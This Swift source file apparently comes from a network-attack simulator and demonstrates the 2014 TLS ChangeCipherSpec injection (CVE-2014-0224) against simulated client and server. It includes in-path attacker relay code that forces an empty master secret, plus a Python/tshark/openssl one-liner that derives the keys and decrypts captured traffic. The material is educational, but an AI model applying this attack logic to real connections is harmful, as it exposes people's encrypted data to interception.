import Simulator
import TCPSim
import TLSSim
import Trace

/// The attacker injects a ChangeCipherSpec before the key exchange. Both ends then make their keys from an empty master secret (Kikuchi 2014).
enum CCSInjection: Exhibit {
    static let card = Card(
        "ccs-injection", in: .implementation, from: .inPath, to: .read, unit: .handshakes, year: 2014,
        cites: [.rfc(5246, "7.1"), .rfc(5246, "6.3")], cves: ["CVE-2014-0224"], words: CCSInjectionCard.self)

    private static let client = Socket(.client, 50_000)
    private static let server = Socket(.server, 443)

    static func perform(_ show: Performance) throws -> Outcome {
        let stage = show.stage()
        let victims = try Victims(show, .dheRSAAES128GCM)
        let (near, far) = show.pair(on: stage)
        let request = show.request
        stage.listen(far, port: 443) { _ in
            victims.server(
                configure: { if !show.isWhole { $0.missingRules = .refusingEarlyChangeCipherSpec } },
                answers: { _ in .ends([Money.answer]) })
        }
        var attacker = show.attacker(on: stage)
        let fraud = Fraud()
        var found = Outcome()
        attacker.guardPath { sight in
            let passage = fraud.pass(sight)
            // She has the request before she sends it on.
            show.find("request", fraud.request, &found)
            return passage
        }
        stage.connect(
            near, from: client.port, to: server,
            victims.client(
                says: [request], configure: { if !show.isDefended { $0.missingRules = .refusingEarlyChangeCipherSpec } }
            ))

        var outcome = Outcome()
        outcome.theory = .exactly(1)
        outcome.tries = 1
        outcome.evidence = [("client", .socket(client)), ("server", .socket(server))]
        // The schedule is there as soon as ServerHello has passed. By then the server has sent its whole flight, and waits for
        // ClientKeyExchange.
        attacker.wait { fraud.schedule != nil }
        guard let schedule = fraud.schedule,
            let early = fraud.segments.insertion(
                fraud.toServer.write(.changeCipherSpec, [1]), from: client, to: server)
        else { return outcome }
        fraud.toServer.writing.startWriting(with: schedule.clientProtection)
        found.computes(
            FoundValue.emptyKeyBlock, from: [Knowledge.serverRandom, Knowledge.clientRandom], by: "PRF",
            schedule.keyBlock)
        show.find(found)
        attacker.send(early, from: client.address, to: server.address, CCSInjectionNote.inserted)
        outcome.say(
            CCSInjectionNote.early, frames: attacker.sighted(fraud.serverRandom) + [attacker.frame()],
            cite: .rfc(5246, "7.1"),
            [.init("master secret", []), .init("key block from it", schedule.keyBlock)])
        attacker.wait(atMost: .seconds(5)) { false }
        (outcome.loot, outcome.means) = (found.loot, found.means)
        outcome.reached = !fraud.request.isEmpty && fraud.isAnswered
        guard outcome.reached else {
            outcome.say(
                CCSInjectionNote.refused(fraud.alert?.description ?? ""), frames: attacker.sighted(),
                cite: .rfc(5246, "7.1"))
            return outcome
        }
        outcome.say(CCSInjectionNote.finished, cite: .rfc(5246, "7.4.9"))
        outcome.say(CCSInjectionNote.reads(octets: fraud.request.count), frames: fraud.frames)
        outcome.truth = [("request", request)]
        outcome.reproduce = [Self.script]
        return outcome
    }

    /// Computes the key block from the empty master secret with the PRF of RFC 5246 section 5, and decrypts the request. GCM encrypts with AES
    /// in counter mode, and the counter of the first block of a message is 2.
    private static let script =
        "python3 -c 'import hmac, subprocess as s; "
        + "t = lambda f, e: bytes.fromhex(s.run([\"tshark\", \"-r\", \"FILE\", \"-Y\", f, \"-T\", \"fields\", \"-e\", e], "
        + "capture_output=True, text=True).stdout.split()[0].replace(\":\", \"\")); "
        + "c = t(\"tls.handshake.type==1\", \"tls.handshake.random\"); r = t(\"tls.handshake.type==2\", \"tls.handshake.random\"); "
        + "d = t(\"ip.src==10.0.0.1 && tls.app_data\", \"tls.app_data\"); h = lambda m: hmac.digest(b\"\", m, \"sha256\"); "
        + "n = b\"key expansion\" + r + c; a = h(n); k = h(a + n) + h(h(a) + n); "
        + "print(s.run([\"openssl\", \"enc\", \"-d\", \"-aes-128-ctr\", \"-K\", k[:16].hex(), \"-iv\", (k[32:36] + d[:8]).hex() + \"00000002\"], "
        + "input=d[8:-16], capture_output=True).stdout.decode())'"

    /// The attacker's work on the segments that pass: she injects the ChangeCipherSpecs, and decrypts and encrypts the records between.
    private final class Fraud {
        let segments = SegmentRelay()
        var toServer = RecordRelay()
        private var toClient = RecordRelay()
        private var clientRandom: [UInt8] = []
        private(set) var serverRandom: [UInt8] = []
        /// The frames in which the client's application data is.
        private(set) var frames: [Int] = []
        /// The key schedule of the empty master secret; nil until ServerHello has passed.
        private(set) var schedule: KeySchedule?
        /// What the client has said, decrypted.
        private(set) var request: [UInt8] = []
        /// Whether the server has sent application data.
        private(set) var isAnswered = false
        /// The first fatal alert of either end; nil if there was none.
        private(set) var alert: AlertDescription?

        func pass(_ sight: Sight) -> PathDecision {
            segments.pass(sight) { source, octets in
                source == client ? fromClient(octets, sight.frame) : fromServer(octets)
            }
        }

        private func fromClient(_ octets: [UInt8], _ frame: Int) -> [UInt8] {
            toServer.pass(octets) { piece, relay in
                switch piece {
                case .message(let message) where message.type == .clientHello:
                    clientRandom = (try? message.parsed(ClientHello.read))?.random ?? []
                case .content(.changeCipherSpec, _):
                    if let schedule { relay.reading.startReading(with: schedule.clientProtection) }
                    return []
                case .content(.applicationData, let data):
                    request += data
                    frames.append(frame)
                case .content(.alert, let octets): return pass(alert: octets, &relay)
                default: break
                }
                return relay.write(piece)
            }
        }

        private func fromServer(_ octets: [UInt8]) -> [UInt8] {
            toClient.pass(octets) { piece, relay in
                switch piece {
                case .message(let message) where message.type == .serverHello:
                    guard let hello = try? message.parsed(ServerHello.read),
                        let suite = CipherSuite.withCodePoint(hello.cipherSuite)
                    else { break }
                    serverRandom = hello.random
                    let schedule = KeySchedule(
                        resuming: [], clientRandom: clientRandom, serverRandom: hello.random, suite: suite)
                    let passed = relay.write(message) + relay.write(.changeCipherSpec, [1])
                    relay.writing.startWriting(with: schedule.serverProtection)
                    self.schedule = schedule
                    return passed
                case .content(.changeCipherSpec, _):
                    if let schedule { relay.reading.startReading(with: schedule.serverProtection) }
                    return []
                case .content(.applicationData, _): isAnswered = true
                case .content(.alert, let octets): return pass(alert: octets, &relay)
                default: break
                }
                return relay.write(piece)
            }
        }

        /// Passes an alert on. A fatal alert goes on in clear: the end that refused the early ChangeCipherSpec has sent it in clear.
        private func pass(alert octets: [UInt8], _ relay: inout RecordRelay) -> [UInt8] {
            if let alert = try? Alert.read(octets), alert.level == .fatal {
                self.alert = self.alert ?? alert.name
                relay.writing = RecordLayer()
            }
            return relay.write(.alert, octets)
        }
    }
}
